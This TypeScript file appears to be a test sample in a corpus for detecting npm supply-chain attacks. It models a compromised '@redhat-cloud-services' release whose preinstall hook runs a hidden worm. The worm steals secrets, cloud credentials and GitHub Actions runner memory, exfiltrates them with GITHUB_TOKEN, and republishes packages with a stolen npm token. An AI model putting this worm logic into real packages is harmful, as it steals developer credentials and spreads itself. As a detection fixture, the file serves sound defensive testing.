import { defineAttack } from "../attack.ts";
import { componentLibrary } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { collectCloud, collectSecrets, republish, uploadToRepository } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * Miasma in `@redhat-cloud-services/*`, 1 June 2026: an employee's account and the project's own workflow on a branch of the
 * attacker's, 96 versions with valid provenance. `preinstall` runs an `index.js` that grew to 4.2 MB.
 */
export const miasma2026: Sample = defineAttack({
  id: "miasma-2026",
  title: "The project's own workflow publishes a hook that runs four megabytes",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "@redhat-cloud-services/chrome", version: "2.3.1" }],
  now: "2026-06-01T10:45:00Z",
  createLines: () => {
    const bundle = renderBundle(4_200_000, 97, [hideInTable(oneLine(worm), "hex")]);
    return [
      line("@redhat-cloud-services/chrome", "2026-06-01T10:20:00Z", bundle),
      line("@redhat-cloud-services/frontend-components", "2026-06-01T10:20:40Z", bundle),
    ];
  },
});

function line(name: string, at: string, bundle: string): PackageLine {
  return {
    name,
    files: componentLibrary(name),
    way: "trusted-publisher",
    releases: [
      ["2.1.0", "2026-03-02T10:00:00Z"],
      ["2.2.0", "2026-04-14T10:00:00Z"],
      ["2.3.0", "2026-05-20T10:00:00Z"],
      [
        "2.3.1",
        at,
        {
          manifest: { scripts: { test: "node --test", preinstall: "node index.js" } },
          files: [{ path: "index.js", content: bundle }],
        },
      ],
    ],
  };
}

const worm = commonScript(`
${collectSecrets}
${collectCloud}
${uploadToRepository("Inert: The Spreading Blight")}
${republish}
function runnerMemory() {
  const found = [];
  for (const id of fs.readdirSync("/proc")) {
    if (!/^[0-9]+$/.test(id)) { continue; }
    const command = fs.readFileSync("/proc/" + id + "/cmdline", "utf8");
    if (command.includes("Runner.Worker")) { found.push(fs.readFileSync("/proc/" + id + "/maps", "utf8").length); }
  }
  return found;
}
(async () => {
  if (process.env.GITHUB_ACTIONS) { loot.memory = runnerMemory(); }
  await collectCloud().catch(() => {});
  if (process.env.GITHUB_TOKEN) { await uploadToRepository(process.env.GITHUB_TOKEN); }
  if (npmToken()) { await republish(npmToken()); }
})();
`);
